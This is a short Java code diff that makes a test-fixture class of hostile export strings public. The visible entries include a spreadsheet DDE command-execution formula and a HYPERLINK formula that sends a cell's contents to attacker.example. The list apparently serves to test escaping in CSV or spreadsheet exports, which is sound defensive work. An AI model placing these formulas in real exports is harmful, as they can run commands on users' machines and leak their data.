@@ -5,8 +5,8 @@ import java.util.List;
 import java.util.stream.Stream;
 
 /** Texts that have broken other people's exports; all of them may stand in a record. */
-final class HostileTexts {
-  static final List<String> ALL =
+public final class HostileTexts {
+  public static final List<String> ALL =
       Stream.of(
               "=cmd|' /C calc'!A0",
               "=HYPERLINK(\"https://attacker.example/?x=\"&A1,\"click\")",
